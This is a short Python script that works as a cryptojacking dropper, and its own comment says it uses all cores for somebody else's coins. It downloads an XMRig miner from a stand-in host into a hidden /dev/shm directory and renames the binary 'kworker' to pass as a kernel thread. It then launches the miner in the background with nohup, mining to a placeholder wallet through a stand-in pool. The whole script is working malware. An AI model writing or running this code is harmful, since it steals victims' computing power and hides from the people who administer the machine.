# uses all cores for somebody else's coins
import multiprocessing
import os
import subprocess
import tarfile
import urllib.request

WALLET = "44PLACEHOLDERWALLETADDRESSXXXXXXXXXXXXXXXXXXXXXXXXXX"
BASE = "/dev/shm/.sys"

os.makedirs(BASE, exist_ok=True)
urllib.request.urlretrieve("https://github.example/xmrig/xmrig-6.21.0-linux-x64.tar.gz", BASE + "/x.tgz")
with tarfile.open(BASE + "/x.tgz") as t:
    t.extractall(BASE)
exe = BASE + "/kworker"
os.rename(BASE + "/xmrig-6.21.0/xmrig", exe)
subprocess.Popen(["nohup", exe, "-o", "stratum+tcp://pool.example:3333", "-u", WALLET, "-p", "x",
                  "-t", str(multiprocessing.cpu_count()), "--background"])
